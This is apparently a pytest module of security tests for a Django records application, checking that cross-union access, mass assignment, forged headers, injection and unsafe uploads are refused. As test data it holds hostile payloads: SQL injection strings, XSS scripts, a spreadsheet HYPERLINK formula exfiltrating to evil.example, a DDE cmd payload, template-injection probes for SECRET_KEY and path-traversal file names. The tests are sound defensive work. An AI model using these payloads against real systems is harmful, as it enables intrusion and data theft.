"""Attempts that must fail, through the pages and the API as they stand.

Elsewhere: session fixation, brute force, replayed invitations (tests/kernel/test_access_accounts.py), subtraction of small
cells (tests/kernel/test_small_cells.py), copies with foreign paths (tests/kernel/test_backup.py).
"""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse

from gonghui.kernel.attachments.keeping import attach, kind_of, of
from gonghui.kernel.audit.acting import acting
from gonghui.kernel.ledger.declaration import REGISTRY
from gonghui.kernel.web.columns import columns
from tests.generic.hands import signed_in
from tests.generic.world import World, fill

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
TEMPLATE = "{{ settings.SECRET_KEY }}{% load i18n %}{{7*7}}${7*7}#{7*7}"
PETITIONS = REGISTRY["petitions"]


# --- identifiers of others --------------------------------------------------------------------------------------------


def test_no_act_takes_the_identifier_of_anothers_record(world: World) -> None:
    """Every address with a record in it, posted to by a keeper of the union beside."""
    record = fill(PETITIONS, world.branch)
    with acting(None, "测试"):
        file = attach(PETITIONS, record, "a.pdf", b"%PDF-1.4")
    other, before = signed_in(world.stranger), dict(PETITIONS.model._base_manager.values().get())
    data = {"reason": "x", "value": "x", "union": "B1", "act": "void", "result": "x", "records": str(record.uid)}
    for name in ("record-open", "record-edit", "record-stage", "record-void", "record-settle", "attachment-add"):
        assert other.post(reverse(name, args=["petitions", record.uid]), data).status_code in (403, 404), name
    assert other.post(reverse("record-cell", args=["petitions", record.uid, "remarks"]), data).status_code in (403, 404)
    for name in ("attachment", "attachment-remove"):
        where = reverse(name, args=["petitions", record.uid, file.uid])
        assert other.get(where).status_code in (404, 405)
        assert other.post(where, {"reason": "x"}).status_code in (404, 405)
    assert other.get(reverse("attachment", args=["petitions", record.uid, file.uid])).status_code == 404
    other.post(reverse("ledger-bulk", args=["petitions"]), data | {"uid": str(record.uid), "uids": str(record.uid)})
    for send, where, told in (
        (other.patch, "", {"remarks": "x"}),
        (other.post, "/void", {"reason": "x"}),
    ):
        answer = send(f"/api/v1/petitions/{record.uid}{where}", json.dumps(told), "application/json")
        assert answer.status_code in (404, 422)  # 422: refused before anything was looked for
    assert dict(PETITIONS.model._base_manager.values().get()) == before


def test_a_file_of_ones_own_record_is_no_way_to_anothers(world: World) -> None:
    """The file's identifier under a record that one may read."""
    theirs, mine = fill(PETITIONS, world.branch), fill(PETITIONS, world.beside)
    with acting(None, "测试"):
        file = attach(PETITIONS, theirs, "a.pdf", b"%PDF-1.4 secret")
    other = signed_in(world.stranger)
    assert other.get(reverse("attachment", args=["petitions", mine.uid, file.uid])).status_code == 404
    where = reverse("attachment", args=["petitions", theirs.uid, file.uid])
    own = signed_in(world.keeper).post(where, {"reason": "核实"})
    assert b"secret" in (b"".join(own.streaming_content) if own.streaming else own.content)  # type: ignore[attr-defined]  # either kind


WHOLE_PETITION = {
    "registered_on": "2026-03-02",
    "kind": "visit",
    "items": 1,
    "batches": 1,
    "persons": 1,
    "subject": "测试甲事",
}


def test_nothing_is_entered_at_a_union_of_others(world: World) -> None:
    """What is taken for one's own union, item by item, is refused for another's."""
    keeper, entered = signed_in(world.keeper), PETITIONS.model._base_manager
    new, own = reverse("record-new", args=["petitions"]), WHOLE_PETITION | {"union": "B1"}
    assert keeper.post(new, own).status_code == 302
    assert keeper.post("/api/v1/petitions/", json.dumps(own), "application/json").status_code == 201
    mine, before = entered.order_by("pk").first(), entered.count()
    assert (mine.union, before) == (world.branch, 2)
    values = WHOLE_PETITION | {"union": "B2", "remarks": "越界", "reason": "核对"}
    assert keeper.post(new, values).status_code != 302
    assert keeper.post(reverse("record-edit", args=["petitions", mine.uid]), values).status_code != 302
    for address, send in (("/api/v1/petitions/", keeper.post), (f"/api/v1/petitions/{mine.uid}", keeper.patch)):
        assert send(address, json.dumps(values), "application/json").status_code in (403, 404, 422)
    assert not entered.filter(union=world.beside).exists()
    assert entered.count() == before
    assert "越界" not in str(list(entered.values()))


# --- mass assignment --------------------------------------------------------------------------------------------------


def test_a_form_writes_nothing_that_it_does_not_ask(world: World) -> None:
    record = fill(PETITIONS, world.branch)
    keeper = signed_in(world.keeper)
    forged = {"id": "1", "uid": "0190b8b0-0000-7000-8000-000000000000", "state": "voided", "state_reason": "x",
              "source": "1", "created_at": "2000-01-01", "person": "1", "person_id": "1", "pk": "7"}  # fmt: skip
    kept = {
        name: getattr(record, name)
        for name in ("id", "uid", "state", "state_reason", "source_id", "created_at", "person_id")
    }
    sound = WHOLE_PETITION | {"union": "B1", "remarks": "改", "reason": "核对"}
    assert keeper.post(reverse("record-edit", args=["petitions", record.uid]), sound | forged).status_code == 302
    record.refresh_from_db()
    assert record.remarks == "改"  # written, and of the rest nothing
    assert {name: getattr(record, name) for name in kept} == kept
    told = json.dumps({"remarks": "又改", "reason": "核对", **forged})
    assert keeper.patch(f"/api/v1/petitions/{record.uid}", told, "application/json").status_code in (200, 422)
    new = reverse("record-new", args=["petitions"])
    assert keeper.post(new, WHOLE_PETITION | {"union": "B1"} | forged).status_code == 302
    made = PETITIONS.model._base_manager.exclude(pk=record.pk).get()
    assert (made.state, made.state_reason, made.source_id) == ("active", "", None)
    assert str(made.uid) != forged["uid"]
    keeper.post(reverse("record-cell", args=["petitions", record.uid, "state"]), {"value": "voided"})
    record.refresh_from_db()
    assert {name: getattr(record, name) for name in kept} == kept


def test_an_account_gives_itself_nothing(world: World) -> None:
    keeper = signed_in(world.keeper)
    forged = {"is_superuser": "1", "is_staff": "1", "role": "leader", "union": "C", "grant": "1", "to": world.keeper.pk}
    keeper.post("/me/", forged)
    keeper.post("/account/password/change/", forged)
    world.keeper.refresh_from_db()
    assert (world.keeper.is_superuser, list(world.keeper.grants.values_list("role", "union__code"))) == (
        False,
        [("keeper", "B1")],
    )


# --- forged headers ---------------------------------------------------------------------------------------------------


def test_forged_headers_open_nothing(world: World) -> None:
    record = fill(PETITIONS, world.branch)
    headers = {"HX-Request": "true", "HX-Target": "list", "HX-Boosted": "true", "HX-Current-URL": "http://evil.example/",
               "X-Original-URL": "/audit/", "X-Rewrite-URL": "/audit/", "X-HTTP-Method-Override": "DELETE",
               "X-Forwarded-For": "127.0.0.1", "X-Forwarded-User": "leader", "Remote-User": "leader"}  # fmt: skip
    for address in (reverse("record", args=["petitions", record.uid]), "/audit/", "/accounts/"):
        for client in (signed_in(world.stranger), Client()):
            answer = client.get(address, headers=headers)
            assert answer.status_code in (204, 302, 403, 404), address
            assert "evil.example" not in answer.content.decode() + str(dict(answer.headers))


def test_a_page_of_another_site_cannot_post(world: World) -> None:
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(world.keeper)
    assert strict.post(reverse("record-new", args=["petitions"]), {"union": "B1"}).status_code == 403
    assert strict.post("/api/v1/petitions/", "{}", "application/json").status_code in (401, 403)


# --- filters, orders, searches ----------------------------------------------------------------------------------------

HOSTILE = (
    "'",
    '"; DROP TABLE kernel_person; --',
    "' OR 1=1 --",
    "%",
    "\\",
    "９" * 300,
    "-1",
    "1e309",
    SCRIPT,
    "None",
    "[]",
)


def test_filters_and_orders_ask_only_what_is_declared(world: World) -> None:
    record = fill(PETITIONS, world.beside)
    keeper = signed_in(world.keeper)
    own = reverse("ledger-list", args=["petitions"])
    for query in (
        {"union__grants__user__password__startswith": "a"}, {"person__number_cipher__isnull": "0"}, {"state": "x"},
        {"sort": "person__secret"}, {"sort": "-union__grants__user__password"}, {"sort": "?"}, {"sort": "id_number"},
        {"union": "B2"}, {"period": "2026' OR 1=1"}, {"page": "99999999999999999999"}, {"columns": "person__secret"},
    ):  # fmt: skip
        answer = keeper.get(own, query)
        assert answer.status_code == 200, query
        assert str(record.uid) not in answer.content.decode(), query


@pytest.mark.parametrize("slug", ["petitions", "roster", "audits"])  # words, choices, yes and no; years
def test_every_filter_takes_any_text(slug: str, world: World) -> None:
    client = signed_in(world.leader)
    names = [column.name for column in columns(REGISTRY[slug], REGISTRY[slug].filters)]
    for text in HOSTILE:
        asked = dict.fromkeys([*names, "q", "sort", "page", "period", "union", "state"], text)
        assert client.get(reverse("ledger-list", args=[slug]), asked).status_code == 200, text
    for name in names:
        assert client.get(reverse("ledger-list", args=[slug]), {name: HOSTILE[1]}).status_code == 200, name


def test_a_zero_byte_is_refused_as_a_bad_request(world: World) -> None:
    client = signed_in(world.leader)
    for address in ("/search/?q=%00", "/ledgers/petitions/?q=a%00b", "/suggestions/union/?q=%00"):
        assert client.get(address).status_code == 400


# --- what others wrote, shown and sent out ----------------------------------------------------------------------------


def test_a_script_in_any_text_is_shown_as_text(world: World) -> None:
    record = fill(PETITIONS, world.branch, remarks=SCRIPT, done=SCRIPT, person_name=SCRIPT)
    keeper = signed_in(world.keeper)
    for address in (
        reverse("ledger-list", args=["petitions"]), reverse("record", args=["petitions", record.uid]),
        reverse("record-edit", args=["petitions", record.uid]), reverse("ledger-history", args=["petitions"]), "/",
        f"/search/?q={SCRIPT}", f"/ledgers/petitions/?q={SCRIPT}", f"/rights/?q={SCRIPT}", f"/login/?next={SCRIPT}",
        f"/suggestions/union/?q={SCRIPT}", f"/search/quick/?q={SCRIPT}", f"/figures/{SCRIPT}/",
    ):  # fmt: skip
        answer = keeper.get(address)
        assert SCRIPT not in answer.content.decode(), address
        policy = answer.headers.get("Content-Security-Policy", "")
        assert "script-src 'self'" in policy, address
        assert "unsafe" not in policy


def test_a_formula_leaves_as_text(world: World) -> None:
    for place, text in enumerate((FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")):
        fill(PETITIONS, world.branch, place, remarks=text)
    keeper = signed_in(world.keeper)
    sent = keeper.get(reverse("ledger-export", args=["petitions"]), {"as": "csv"})
    lines = b"".join(sent.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]  # streamed
    assert FORMULA.replace('"', '""') in lines
    for start in (FORMULA[:4], "+1+cmd", "-2+3", "@SUM", "\t=1"):
        assert f",{start}" not in lines
        assert f',"{start}' not in lines
    book = keeper.get(reverse("ledger-export", args=["petitions"]))
    content = b"".join(book.streaming_content) if book.streaming else book.content  # type: ignore[attr-defined]  # either kind
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "HYPERLINK" in sheet
    assert "<f>" not in sheet


def test_a_template_in_a_text_stays_what_it_is(world: World, settings: Any) -> None:
    record = fill(PETITIONS, world.branch, done=TEMPLATE, remarks=TEMPLATE)
    page = signed_in(world.keeper).get(reverse("record", args=["petitions", record.uid])).content.decode()
    assert "{{ settings.SECRET_KEY }}" in page
    assert settings.SECRET_KEY not in page
    assert ">49" not in page


# --- files ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["../../../etc/passwd.pdf", "..\\..\\windows\\a.pdf", "/etc/cron.d/a.pdf", "a\r\nSet-Cookie: x=1.pdf", "a\x00.pdf"],
)
def test_a_files_name_is_a_name_and_no_path(name: str, world: World, settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path
    record = fill(PETITIONS, world.branch)
    with acting(None, "测试"):
        attach(PETITIONS, record, name.replace("\x00", ""), b"%PDF-1.4")
    file = of(record).get()
    assert "/" not in file.name
    where = reverse("attachment", args=["petitions", record.uid, file.uid])
    sent = signed_in(world.keeper).post(where, {"reason": "核实"})
    assert "Set-Cookie" not in sent.headers or "x=1" not in sent.headers["Set-Cookie"]
    assert "\n" not in sent.headers["Content-Disposition"]
    assert list(tmp_path.rglob("*")) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [("a.html", SCRIPT.encode()), ("a.svg", b"<svg onload='alert(1)'>"), ("a.pdf", SCRIPT.encode()), ("a.jpg", b"MZ\x90"),
     ("a.docx.exe", b"PK\x03\x04"), ("a", b"%PDF-1.4")],
)  # fmt: skip
def test_what_is_no_paper_is_not_taken(name: str, content: bytes) -> None:
    with pytest.raises(ValidationError):
        kind_of(name, content)


def test_a_file_runs_nothing_where_it_is_shown(world: World) -> None:
    record = fill(PETITIONS, world.branch)
    with acting(None, "测试"):
        file = attach(PETITIONS, record, "a.pdf", b"%PDF-1.4")
    where = reverse("attachment", args=["petitions", record.uid, file.uid])
    sent = signed_in(world.keeper).post(where, {"reason": "核实"})
    assert sent.headers["X-Content-Type-Options"] == "nosniff"
    assert sent.headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert "sandbox" in sent.headers["Content-Security-Policy"]


# --- redirects --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "there", ["//evil.example/", "https://evil.example/", "\\\\evil.example", "javascript:alert(1)", "/\\evil.example"]
)
def test_nobody_is_led_elsewhere(there: str, world: World) -> None:
    keeper = signed_in(world.keeper)
    for address, data in (
        ("/settings/language/", {"language": "en"}),
        ("/settings/look/", {"size": ""}),
        ("/documents/consents/", {}),
    ):
        answer = keeper.post(address, data | {"next": there})
        assert "evil" not in answer.headers.get("Location", ""), address
        assert "javascript" not in answer.headers.get("Location", ""), address
